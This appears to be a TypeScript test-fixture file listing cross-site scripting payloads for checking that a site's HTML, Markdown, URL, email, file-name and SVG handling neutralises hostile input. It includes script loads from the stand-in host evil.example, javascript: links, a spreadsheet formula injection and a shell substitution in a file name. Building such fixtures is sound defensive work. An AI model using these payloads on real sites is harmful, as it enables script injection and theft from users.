/**
 * What a contributor could write so that something runs, loads or leaves in a reader's browser. Each marks what it would
 * make: an element `<x-xss>`, an attribute `xss`, the variable `__xss`, or a request to evil.example.
 */

/** Ends every place that a text can stand in, and fits the shortest field. */
export const polyglot = `</title></script></style>"'><x-xss>`;

const elements = [
  '<script>__xss=1</script>',
  '<ScRiPt/x>__xss=1</sCrIpT >',
  '<script src=//evil.example/a.js></script>',
  '<img src=x onerror=__xss=1 xss>',
  '<img/src="x"/onerror="__xss=1">',
  '<svg onload=__xss=1 xss>',
  '<svg><script>__xss=1</script></svg>',
  '<svg><animate onbegin=__xss=1 attributeName=x dur=1s>',
  '<svg><a href="javascript:__xss=1"><rect/></a></svg>',
  '<svg><use href="//evil.example/a.svg#a"/></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=__xss=1>">',
  '<math><mtext></form><form><mglyph><style></math><img src=x onerror=__xss=1>',
  '<math href="javascript:__xss=1">go</math>',
  '<iframe src="javascript:parent.__xss=1"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<object data="javascript:parent.__xss=1"></object>',
  '<embed src=//evil.example/a.swf>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:__xss=1">',
  '<link rel=stylesheet href=//evil.example/a.css>',
  '<style>*{background:url(//evil.example/a)}</style>',
  '<style>@import "//evil.example/b.css";</style>',
  '<p style="background:url(//evil.example/c)" xss>',
  '<form action=//evil.example/><button xss>go</button></form>',
  '<button form=x formaction=javascript:__xss=1>go</button>',
  '<input autofocus onfocus=__xss=1>',
  '<textarea autofocus onfocus=__xss=1></textarea>',
  '<details open ontoggle=__xss=1>',
  '<video><source onerror=__xss=1></video>',
  '<audio src=//evil.example/a.mp3 autoplay>',
  '<marquee onstart=__xss=1>',
  '<body onload=__xss=1 onpageshow=__xss=1>',
  '<a href="javascript:__xss=1" xss>go</a>',
  '<a href=" &#1; jav&#x09;ascript&colon;__xss=1">go</a>',
  '<template><x-xss></template>',
  '<noscript><p title="</noscript><img src=x onerror=__xss=1>">',
  '<x-xss',
  '<plaintext>',
  '<!--<script>',
  '<![CDATA[<x-xss>]]>',
  '<?php echo "<x-xss>" ?>',
];

const ways = [
  '"><x-xss>',
  "'><x-xss>",
  '`><x-xss>',
  '" xss="1" autofocus tabindex="1" onfocus="__xss=1',
  "' xss='1' onmouseover='__xss=1",
  'x xss onpointerenter=__xss=1',
  '` xss=1 onerror=__xss=1 `',
  '--><x-xss><!--',
  '--!><x-xss>',
  ']]><x-xss>',
  '</textarea><x-xss>',
  '</template><x-xss>',
  '</noscript><x-xss>',
  '</bdi></p></main></body></html><x-xss>',
  '</script><script>__xss=1</script>',
  '</script ><x-xss>',
  '"}</script><x-xss><script>{"a":"',
  '"};__xss=1;//',
  '\\"};__xss=1;//',
  "';__xss=1;//",
];

const disguises = [
  '&lt;x-xss&gt;',
  '&#60;x-xss&#62;',
  '&#x3c;x-xss&#x3e;',
  '&amp;lt;x-xss&amp;gt;',
  '%3Cx-xss%3E',
  '\\u003cx-xss\\u003e',
  '\\x3cx-xss\\x3e',
  '＜x-xss＞',
  '+ADw-x-xss+AD4-',
  '<\u00adscript>__xss=1</\u00adscript>',
  '\ufeff<script>__xss=1</script>',
  '\u2028</script><x-xss>\u2029',
  '\u202e</bdi><x-xss>',
  '\u2066<x-xss>\u2069\u2069\u2069',
  '{{__xss=1}} {%__xss=1%} #{__xss=1}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a trick against template languages
  '{__xss=1} ${__xss=1} <%=__xss=1%>',
  "{{constructor.constructor('__xss=1')()}}",
  '__proto__ constructor prototype',
  '=cmd|"/c calc"!A1',
];

const styles = [
  '}*{background:url(//evil.example/d)}',
  '";background:url(//evil.example/e);"',
  '\\3c x-xss\\3e',
  'expression(__xss=1)',
  '*/}@import url(//evil.example/f);/*',
];

const schemes = [
  'javascript:__xss=1',
  'JaVaScRiPt:__xss=1',
  'javascript://evil.example/%0a__xss=1',
  'data:text/html,<script>parent.__xss=1</script>',
  'vbscript:__xss=1',
  '//evil.example/g',
];

/** For every field of text. */
export const texts: readonly string[] = [...elements, ...ways, ...disguises, ...styles, ...schemes];

/** For texts that are Markdown, besides the others. */
export const markdownTexts: readonly string[] = [
  '<script>\n__xss=1\n</script>',
  '<x-xss>\n\ntext\n\n</x-xss>',
  '<!-- --><x-xss>',
  '[a](javascript:__xss=1)',
  '[b](JaVaScRiPt:__xss=1)',
  '[c](<java\tscript:__xss=1>)',
  '[d](&#106;avascript:__xss=1)',
  '[e](javascript&colon;__xss=1)',
  '[f](data:text/html,<script>parent.__xss=1</script>)',
  '[g](vbscript:__xss=1)',
  '[h](&#1;javascript:__xss=1)',
  '[i][ref]',
  '[ref]: javascript:__xss=1 "title\\" onmouseover=\\"__xss=1"',
  '[j](https://fine.example/ "t\\" onmouseover=\\"__xss=1")',
  "[k](https://fine.example/ 't\\' xss=\\'1')",
  '<javascript:__xss=1>',
  '<https://fine.example/"xss="1>',
  '![l](javascript:__xss=1)',
  '![m](https://evil.example/pixel.png)',
  '![n" onerror="__xss=1](https://evil.example/pixel.png)',
  '![o](data:image/svg+xml,<svg onload=__xss=1>)',
  '[![p](https://evil.example/pixel.png)](javascript:__xss=1)',
  '[q](//evil.example/)',
  '[r](https://badges.example.org@evil.example/)',
  '[s](feed:javascript:__xss=1)',
  '[t](view-source:javascript:__xss=1)',
  '[u](blob:https://evil.example/1)',
  '[v](\\\\evil.example\\share)',
  '[w](%6aavascript:__xss=1)',
  '```<script>__xss=1</script>\n</code></pre><script>__xss=1</script>\n```',
  '    </code></pre><x-xss>',
  '| a |\n| :-: |\n| <img src=x onerror=__xss=1> |',
  '# <x-xss>\n\nSetext <x-xss>\n===',
  '`</code><x-xss>` **<x-xss>** ~~<x-xss>~~',
  `${'> '.repeat(30)}<x-xss>`,
  `${'['.repeat(200)}a](javascript:__xss=1)`,
];

/** Complete web addresses, each as odd as such an address can be: where one may stand, these may. */
export const addresses: readonly string[] = [
  'https://evil.example/"xss="1" onmouseover="__xss=1',
  "https://evil.example/'xss='1' onmouseover='__xss=1",
  'https://evil.example/?a="><x-xss>',
  'https://evil.example/#"><x-xss>',
  'https://evil.example/</script><x-xss>',
  'https://evil.example/`xss=1',
  'https://evil.example/%22%3E%3Cx-xss%3E',
  'https://evil.example/&quot;&gt;&lt;x-xss&gt;',
  'https://evil.example/javascript:__xss=1',
  'https://evil.example/)}*{background:url(//evil.example/h)}',
  'https://evil.example/\u202egpj.exe',
  'https://evil.example/\u2028x-xss',
  'https://evil.example/{{__xss=1}}',
  'HTTPS://EVIL.EXAMPLE:443/../..//evil.example/',
  `https://evil.example/${'a'.repeat(1500)}"><x-xss>`,
  'https://xn--e1awd7f.example/<x-xss>',
];

/** What is no web address, however it is spelled. */
export const noAddresses: readonly string[] = [
  ...schemes,
  ' javascript:__xss=1',
  '\tjava\nscript:__xss=1',
  '\u0001javascript:__xss=1',
  '\u00a0javascript:__xss=1',
  'javascript&colon;__xss=1',
  '&#106;avascript:__xss=1',
  '%6aavascript:__xss=1',
  'javascript:https://fine.example/',
  'data:text/html;base64,PHNjcmlwdD5fX3hzcz0xPC9zY3JpcHQ+',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="__xss=1"/>',
  'vb\tscript:__xss=1',
  'feed:javascript:__xss=1',
  'view-source:https://evil.example/',
  'blob:https://evil.example/1',
  'filesystem:https://evil.example/1',
  'file:///etc/passwd',
  'ftp://evil.example/',
  'ws://evil.example/',
  'about:blank',
  'mailto:a@evil.example',
  '/path',
  '?q=1',
  '#x',
  'https://',
  'https://badges.example.org@evil.example/',
  'https://user:word@evil.example/',
];

/** Addresses of mail that mail would take. */
export const emails: readonly string[] = [
  '"onmouseover="__xss=1"<x-xss>?cc=all@evil.example',
  "'><x-xss>@evil.example",
  'a&subject=x&bcc=b%40evil.example@evil.example',
  '</script><x-xss>@evil.example',
];

/** Names of picture files; Windows has no file of the first three. */
export const pictureNames: readonly string[] = [
  '"><x-xss>.png',
  "' xss='1' onerror='__xss=1.png",
  '<img src=x onerror=__xss=1>.png',
  '&quot;&gt;&lt;x-xss&gt;.png',
  '#%2e%2e%2f?a=1.png',
  '{{__xss=1}} $(id).png',
];

/** A drawing that holds every trick that draws nothing. */
export const oddSvg = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100" width="100" height="100">
<!-- </svg><script>__xss=1</script><x-xss> -->
<title>&lt;/title&gt;&lt;script&gt;__xss=1&lt;/script&gt;</title>
<desc><![CDATA[</desc></svg><script>__xss=1</script>]]></desc>
<style><![CDATA[.a { fill: #5c1a2c } /* </style><script>__xss=1</script> */]]></style>
<circle class="a" id="__proto__" cx="50" cy="50" r="45"/>
<text x="10" y="55" font-size="12" fill="#ffffff">&lt;x-xss&gt; javascript:__xss=1</text>
</svg>
`;
